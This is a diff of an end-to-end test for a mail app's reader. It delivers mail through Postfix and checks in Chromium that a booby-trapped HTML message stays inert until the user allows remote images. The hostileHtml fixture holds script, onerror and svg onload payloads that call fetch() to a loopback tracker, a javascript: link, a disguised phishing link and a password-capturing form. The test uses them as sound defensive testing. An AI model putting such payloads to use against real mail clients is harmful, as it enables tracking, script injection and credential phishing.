@@ -1,9 +1,10 @@
 /**
- * The reader against hostile mail, end to end: bob's "school" sends alice
- * mail through Postfix; the real core syncs it; Debian's Chromium shows it
- * through the browser host. A loopback HTTP logger stands for the tracker:
- * nothing may reach it, nor appear in the browser's request log, until
- * alice asks to see this message's images, and then only images.
+ * The reader of the real app, end to end: mail goes through Postfix, the
+ * real core syncs it, the browser host serves the built renderer, and alice
+ * clicks through the folder pane and the list as she would. A loopback HTTP
+ * logger stands for the tracker: nothing may reach it, nor appear in
+ * Chromium's request log, nor run in the page, until alice asks to see this
+ * message's remote content, and then only its images load.
  */
 import { randomUUID } from 'node:crypto';
 import { createServer, type Server } from 'node:http';
@@ -11,15 +12,21 @@ import type { AddressInfo } from 'node:net';
 import nodemailer, { type SendMailOptions } from 'nodemailer';
 import type { Browser, Page } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import type { MessageSummary } from '../../shared/contract/index.ts';
 import { startBrowserHost, type BrowserHost } from '../../electron/server/host.ts';
 import { launchChromium, screenshot } from '../support/browser.ts';
 import { signIn, startTestCore, type TestCore } from '../support/core.ts';
-import { caPem, user } from '../support/stack.ts';
-import { buildReaderHarness } from './reader-harness.ts';
+import { ensureRendererBuilt, rendererDir } from '../support/renderer-build.ts';
+import { caPem, endpoints, stackPreset, user } from '../support/stack.ts';
 
 const alice = user('alice');
+const bob = user('bob');
 const tag = randomUUID().slice(0, 8);
+const subjects = {
+  bob: `Sortie au musée ${tag}`,
+  hostile: `Bulletin piégé ${tag}`,
+  plain: `Texte seul ${tag}`,
+  cid: `Logo ${tag}`,
+};
 const PNG_1X1 =
   'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==';
 
@@ -29,8 +36,8 @@ let host: BrowserHost;
 let logger: Server;
 let loggerBase: string;
 const loggerHits: string[] = [];
-let accountId: string;
 
+/** Every way a mail has tried to phone home or run code, each on its own path of the logger. */
 function hostileHtml(base: string): string {
   return `<html><head>
 <link rel="stylesheet" href="${base}/style.css">
@@ -40,11 +47,11 @@ function hostileHtml(base: string): string {
 </head><body>
 <h1>Bulletin du trimestre</h1>
 <img src="${base}/pixel.gif" width="1" height="1" alt="">
-<script>fetch('${base}/script'); parent.document.title = 'pwned';</script>
-<img src="x" onerror="fetch('${base}/onerror'); parent.document.title = 'pwned'">
+<script>fetch('${base}/script'); parent.document.title = 'pwned'; parent.postMessage('pwned', '*');</script>
+<img src="x" onerror="fetch('${base}/onerror'); parent.postMessage('pwned', '*')">
 <p><a id="js" href="javascript:fetch('${base}/js-link')">Voir le bulletin</a></p>
 <p><a id="phish" href="${base}/phish">www.ac-lyon.fr</a></p>
-<svg onload="fetch('${base}/svg-onload')"><script>fetch('${base}/svg-script')</script><image href="${base}/svg-image.png"/></svg>
+<svg onload="fetch('${base}/svg-onload')"><script>fetch('${base}/svg-script'); parent.postMessage('pwned', '*')</script><image href="${base}/svg-image.png"/></svg>
 <form action="${base}/form" method="post"><input name="password"><button id="send">Envoyer</button></form>
 </body></html>`;
 }
@@ -61,8 +68,26 @@ async function deliver(mail: SendMailOptions): Promise<void> {
   transport.close();
 }
 
-/** Syncs until the three test messages are in alice's inbox (Postfix delivers asynchronously). */
-async function inboxMessages(): Promise<MessageSummary[]> {
+/** Bob through the submission port, authenticated, as his own mail client would. */
+async function sendFromBob(): Promise<void> {
+  const transport = nodemailer.createTransport({
+    host: endpoints.submissions.host,
+    port: endpoints.submissions.port,
+    secure: true,
+    tls: { ca: [caPem()] },
+    auth: { user: bob.login, pass: bob.password },
+  });
+  await transport.sendMail({
+    from: `Bob Durand <${bob.email}>`,
+    to: alice.email,
+    subject: subjects.bob,
+    text: 'Bonjour Alice,\n\nLa sortie au musée est confirmée pour jeudi à 9 h.\n\nBob',
+  });
+  transport.close();
+}
+
+/** Syncs until the four test messages are in alice's cache (Postfix delivers asynchronously). */
+async function waitForDelivery(accountId: string): Promise<void> {
   const inbox = (await app.client.invoke('mail.listFolders', { accountId })).find(
     (f) => f.specialUse === 'inbox',
   );
@@ -70,15 +95,14 @@ async function inboxMessages(): Promise<MessageSummary[]> {
   for (let attempt = 0; attempt < 40; attempt += 1) {
     await app.client.invoke('mail.syncAccount', { accountId });
     await app.core.idle();
-    const page = await app.client.invoke('mail.listMessages', {
+    const { messages } = await app.client.invoke('mail.listMessages', {
       folderId: inbox.id,
       sort: 'date',
       order: 'desc',
       offset: 0,
       limit: 200,
     });
-    const ours = page.messages.filter((message) => message.subject.includes(tag));
-    if (ours.length >= 3) return ours;
+    if (messages.filter((message) => message.subject.includes(tag)).length >= 4) return;
     await new Promise((resolve) => setTimeout(resolve, 500));
   }
   throw new Error('test mail not delivered');
@@ -91,25 +115,30 @@ beforeAll(async () => {
   });
   await new Promise<void>((resolve) => logger.listen(0, '127.0.0.1', resolve));
   loggerBase = `http://127.0.0.1:${(logger.address() as AddressInfo).port}`;
+  ensureRendererBuilt();
+  browser = await launchChromium();
 
-  const [rendererDir] = await Promise.all([
-    buildReaderHarness(),
-    (async () => (browser = await launchChromium()))(),
-  ]);
-  app = startTestCore({ watchMail: false, recentBodies: false, extraCaPem: [caPem()] });
-  accountId = await signIn(app, alice);
-  await deliver({ subject: `Bulletin piégé ${tag}`, html: hostileHtml(loggerBase), text: 'version texte' });
+  await sendFromBob();
+  await deliver({ subject: subjects.hostile, html: hostileHtml(loggerBase), text: 'version texte' });
   await deliver({
-    subject: `Texte seul ${tag}`,
+    subject: subjects.plain,
     text: 'Bonjour Alice,\n\nLe conseil est jeudi : https://www.ac-lyon.fr/conseil\n\n> Message précédent\n> cité',
   });
   await deliver({
-    subject: `Logo ${tag}`,
+    subject: subjects.cid,
     html: '<p>Notre logo :</p><img id="logo" src="cid:logo@ecole.example" alt="logo">',
     attachments: [
       { filename: 'logo.png', content: Buffer.from(PNG_1X1, 'base64'), cid: 'logo@ecole.example' },
     ],
   });
+  app = startTestCore({
+    extraPresets: [stackPreset],
+    extraCaPem: [caPem()],
+    watchMail: false,
+    recentBodies: false,
+    pollIntervalMs: 3_600_000,
+  });
+  await waitForDelivery(await signIn(app, alice));
   host = await startBrowserHost({ core: app.core, rendererDir });
 }, 180_000);
 
@@ -120,47 +149,79 @@ afterAll(async () => {
   logger?.close();
 });
 
-/** Opens the reader on one message; returns the page and every URL the page requested. */
-async function openReader(
-  message: MessageSummary,
-): Promise<{ page: Page; requests: string[]; errors: string[] }> {
+interface Opened {
+  page: Page;
+  /** Every URL Chromium requested, with the URL of the frame that asked. */
+  requests: Array<{ url: string; frame: string }>;
+  errors: string[];
+}
+
+/** Opens the app, then the inbox, then the message: as alice does, with the mouse. */
+async function openMessage(subject: string): Promise<Opened> {
   const page = await browser.newPage({
     locale: 'fr-FR',
     colorScheme: 'light',
-    viewport: { width: 1000, height: 900 },
+    viewport: { width: 1440, height: 900 },
   });
-  const requests: string[] = [];
+  const requests: Opened['requests'] = [];
   const errors: string[] = [];
-  page.on('request', (request) => requests.push(request.url()));
+  page.on('request', (request) => requests.push({ url: request.url(), frame: request.frame().url() }));
+  // Uncaught exceptions only: the mail frame's CSP refusals are console errors, and expected.
   page.on('pageerror', (error) => errors.push(error.message));
+  // Anything a script of the mail could post to the app is recorded, before the app even loads.
+  await page.addInitScript(() => {
+    const received: unknown[] = [];
+    Object.assign(window, { receivedMessages: received });
+    window.addEventListener('message', (event) => received.push(event.data));
+  });
   await page.goto(host.url);
-  // A new query, so this is a new document and not a fragment change of the first one.
-  await page.goto(`${host.origin}/?reader#${encodeURIComponent(JSON.stringify(message))}`);
-  await page.getByTestId('reader-subject').waitFor();
+  await page.locator('[data-testid="folder"][data-path="INBOX"] > .row').click();
+  await page.locator('[data-testid="message-row"]', { hasText: subject }).first().click();
+  await page.getByTestId('reader-subject').filter({ hasText: subject }).waitFor();
   return { page, requests, errors };
 }
 
-const byLogger = (urls: readonly string[]) => urls.filter((url) => url.startsWith(loggerBase));
+const fromLogger = (requests: Opened['requests']) =>
+  requests.filter((request) => request.url.startsWith(loggerBase)).map((request) => request.url);
+const receivedMessages = (page: Page) =>
+  page.evaluate(() => (window as unknown as { receivedMessages: unknown[] }).receivedMessages);
 
-describe('the reader in Chromium, against hostile mail', () => {
+describe('the reader of the app, in Chromium', () => {
+  it('alice reads the message bob sent her: his real address and the body', async () => {
+    const { page, errors } = await openMessage(subjects.bob);
+    expect(await page.getByTestId('reader-from').innerText()).toContain('Bob Durand');
+    expect(await page.getByTestId('reader-from-address').textContent()).toBe(`<${bob.email}>`);
+    expect(await page.getByTestId('reader-to').innerText()).toContain(alice.email);
+    const body = page.getByTestId('plain-text');
+    await body.waitFor();
+    expect(await body.innerText()).toContain('La sortie au musée est confirmée pour jeudi à 9 h.');
+    expect(errors).toEqual([]);
+    await screenshot(page, '20-lecteur-message-de-bob');
+    await page.close();
+  });
+
   it('loads nothing remote and runs nothing until asked, then only this message’s images', async () => {
-    const message = (await inboxMessages()).find((m) => m.subject.startsWith('Bulletin piégé'));
-    if (!message) throw new Error('hostile message missing');
-    const { page, requests, errors } = await openReader(message);
+    const { page, requests, errors } = await openMessage(subjects.hostile);
+    const title = await page.title();
     const frame = page.frameLocator('[data-testid="mail-frame"]');
     await frame.locator('h1').waitFor();
     await page.getByTestId('remote-bar').waitFor();
-    // Time for anything that would fire on load: images, scripts, refresh, handlers.
+    // Time for anything that would fire on load: images, styles, scripts, refresh, handlers.
     await page.waitForTimeout(1500);
     expect(loggerHits).toEqual([]);
-    expect(byLogger(requests)).toEqual([]);
-    expect(await page.title()).toBe('Lecteur');
+    expect(fromLogger(requests)).toEqual([]);
+    // The mail's frame asked for nothing at all (its document is a srcdoc, never fetched).
+    expect(requests.filter((request) => request.frame === 'about:srcdoc')).toEqual([]);
+    expect(await page.title()).toBe(title);
+    expect(await receivedMessages(page)).toEqual([]);
     expect(await frame.locator('script, form, svg, meta[http-equiv="refresh"], base, link').count()).toBe(0);
-    // The real address is on screen, not only the display name.
     expect(await page.getByTestId('reader-from-address').textContent()).toBe(
       '<no-reply@rectorat.example.test>',
     );
-    await screenshot(page, 'reader-hostile-blocked');
+    expect(await page.getByTestId('remote-bar').innerText()).toContain(
+      'Des contenus distants ont été bloqués',
+    );
+    await screenshot(page, '21-lecteur-contenu-distant-bloque');
 
     // A javascript: link is inert; a disguised link asks first and tells the truth.
     await frame.locator('#js').click();
@@ -173,28 +234,34 @@ describe('the reader in Chromium, against hostile mail', () => {
     expect(await dialog.getByTestId('link-mismatch').textContent()).toContain(
       'Le texte affiche ac-lyon.fr mais le lien mène à 127.0.0.1',
     );
-    await screenshot(page, 'reader-link-confirm');
+    await screenshot(page, '22-lecteur-lien-trompeur');
     await dialog.getByRole('button', { name: 'Annuler' }).click();
     expect(page.frames().map((f) => f.url())).not.toContain(`${loggerBase}/phish`);
+    expect(loggerHits).toEqual([]);
 
     await page.getByRole('button', { name: 'Afficher pour ce message' }).click();
     await expect.poll(() => loggerHits.includes('/pixel.gif'), { timeout: 10_000 }).toBe(true);
+    await expect.poll(() => loggerHits.includes('/bg.png'), { timeout: 10_000 }).toBe(true);
     await page.waitForTimeout(1000);
-    const forbidden = ['/style.css', '/import.css', '/refresh', '/script', '/onerror', '/js-link', '/phish'];
-    const alsoForbidden = ['/svg-onload', '/svg-script', '/svg-image.png', '/form'];
-    for (const url of [...forbidden, ...alsoForbidden]) expect(loggerHits).not.toContain(url);
-    expect(loggerHits.every((url) => url === '/pixel.gif' || url === '/bg.png')).toBe(true);
-    expect(await page.title()).toBe('Lecteur');
+    // Exactly the two images, once each: no stylesheet, import, refresh, script, handler, SVG, form.
+    expect([...loggerHits].sort()).toEqual(['/bg.png', '/pixel.gif']);
+    expect(fromLogger(requests).sort()).toEqual([`${loggerBase}/bg.png`, `${loggerBase}/pixel.gif`]);
+    expect(
+      requests
+        .filter((request) => request.frame === 'about:srcdoc')
+        .map((request) => request.url)
+        .sort(),
+    ).toEqual([`${loggerBase}/bg.png`, `${loggerBase}/pixel.gif`]);
+    expect(await page.title()).toBe(title);
+    expect(await receivedMessages(page)).toEqual([]);
     expect(await page.getByTestId('remote-bar').count()).toBe(0);
     expect(errors).toEqual([]);
-    await screenshot(page, 'reader-hostile-shown');
+    await screenshot(page, '23-lecteur-contenu-distant-affiche');
     await page.close();
   });
 
   it('shows a plain-text mail as text, quotes set apart, links that ask first', async () => {
-    const message = (await inboxMessages()).find((m) => m.subject.startsWith('Texte seul'));
-    if (!message) throw new Error('plain message missing');
-    const { page, errors } = await openReader(message);
+    const { page, errors } = await openMessage(subjects.plain);
     const text = page.getByTestId('plain-text');
     await text.waitFor();
     expect(await text.textContent()).toContain('Le conseil est jeudi');
@@ -202,24 +269,23 @@ describe('the reader in Chromium, against hostile mail', () => {
     await text.getByRole('link', { name: 'https://www.ac-lyon.fr/conseil' }).click();
     expect(await page.getByTestId('link-target').textContent()).toBe('https://www.ac-lyon.fr/conseil');
     expect(errors).toEqual([]);
-    await screenshot(page, 'reader-plain-text');
+    await screenshot(page, '24-lecteur-texte-brut');
     await page.close();
   });
 
   it('shows a cid: image from the message itself, with no request', async () => {
-    const message = (await inboxMessages()).find((m) => m.subject.startsWith('Logo'));
-    if (!message) throw new Error('cid message missing');
     const hitsBefore = loggerHits.length;
-    const { page, requests, errors } = await openReader(message);
+    const { page, requests, errors } = await openMessage(subjects.cid);
     const logo = page.frameLocator('[data-testid="mail-frame"]').locator('#logo');
     await logo.waitFor();
     await expect.poll(() => logo.evaluate((img: HTMLImageElement) => img.naturalWidth)).toBe(1);
     expect(await logo.getAttribute('src')).toMatch(/^data:image\/png;base64,/);
     expect(await page.getByTestId('remote-bar').count()).toBe(0);
-    expect(requests.filter((url) => !url.startsWith(host.origin) && !url.startsWith('data:'))).toEqual([]);
+    expect(
+      requests.filter((request) => !request.url.startsWith(host.origin) && !request.url.startsWith('data:')),
+    ).toEqual([]);
     expect(loggerHits.length).toBe(hitsBefore);
     expect(errors).toEqual([]);
-    await screenshot(page, 'reader-cid-image');
     await page.close();
   });
 });
